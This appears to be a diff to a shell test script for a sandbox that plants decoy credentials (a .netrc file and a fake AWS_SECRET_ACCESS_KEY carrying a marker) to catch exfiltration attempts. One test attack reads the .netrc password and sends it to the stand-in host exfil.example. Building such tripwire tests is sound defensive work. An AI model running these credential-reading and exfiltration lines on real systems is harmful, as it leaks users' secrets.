@@ -24,10 +24,18 @@ import os
 print(open("/proc/sys/kernel/core_pattern").read().strip(), open("/sys/fs/cgroup/memory.max").read().strip())
 print(len(open(os.path.expanduser("~/.netrc")).read()) > 0, os.environ["HOME"])
 PY
-create_sandbox lh "$POLICY"
+python3 -c '
+import json, sys
+p = json.load(open(sys.argv[1]))
+p["sandbox"]["decoy_env"] = ["AWS_SECRET_ACCESS_KEY"]
+json.dump(p, open(sys.argv[2], "w"))' "$POLICY" "$T/decoy-env.json"
+create_sandbox lh "$T/decoy-env.json"
 copy_in lh "$T/honest.py"
 out=$("$FB" exec lh --tool attack --step 1 -- python3 /workspace/honest.py) || fail "honest: $out"
 assert_eq "$(echo "$out" | tail -1)" "True /home/agent" "HOME is the sandbox's own home, with a .netrc in it"
+marker=$(state_field lh decoy_marker)
+assert_eq "$("$FB" exec lh --tool run -- printenv AWS_SECRET_ACCESS_KEY)" "$marker$marker" \
+	"sandbox.decoy_env: the call's AWS_SECRET_ACCESS_KEY is a decoy carrying the sandbox's marker"
 wait_event lh lure.decoy || fail "the .netrc read was not recorded"
 sleep 0.3
 events lh lure.tripwire | python3 -c '
@@ -140,6 +148,8 @@ attack lmark exfil.decoy-marker 'import os, subprocess, time
 pw = open(os.path.expanduser("~/.netrc")).read().split()[-1]
 subprocess.run(["/usr/bin/python3", "-c", "import sys", "https://exfil.example/?p=" + pw])
 time.sleep(10)'
+[ "$(state_field lmark decoy_marker 2>/dev/null)" != "$(state_field lh decoy_marker)" ] ||
+	fail "two sandboxes share a marker"
 
 "$FB" status --json | python3 -c '
 import json, sys
